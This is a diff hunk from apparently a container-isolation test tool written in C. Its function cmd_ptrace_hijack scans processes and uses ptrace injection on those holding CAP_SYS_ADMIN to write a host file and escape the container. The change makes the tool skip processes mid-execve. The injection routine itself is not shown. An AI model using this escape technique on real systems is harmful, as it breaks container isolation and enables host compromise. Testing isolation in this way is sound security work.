@@ -1128,10 +1128,12 @@ static int cmd_ptrace_hijack(const char *secs, const char *hostfile, const char 
 				seen++;
 			}
 			read_cmdline(pid, cmdline, sizeof cmdline);
-			/* The positive control's victim is nsenter's child until it executes
-			 * `sleep`: attacked in between, the injected calls race with that execve
-			 * (seen once under load: hijacked, nothing written). Wait for the sleep. */
-			if (strncmp(cmdline, "nsenter ", 8) == 0)
+			/* A process in the middle of an execve (its cmdline reads empty then), or
+			 * the positive control's victim while it is still nsenter's child: attacked
+			 * then, the injected calls race with the execve (seen under load: hijacked,
+			 * nothing written). It is not marked done: the next scan attacks what the
+			 * execve made, if that still has CAP_SYS_ADMIN. */
+			if (cmdline[0] == '\0' || strncmp(cmdline, "nsenter ", 8) == 0)
 				continue;
 			if (hijack(pid, hostfile, &escaped, &cgroup)) {
 				done[pid] = 1;
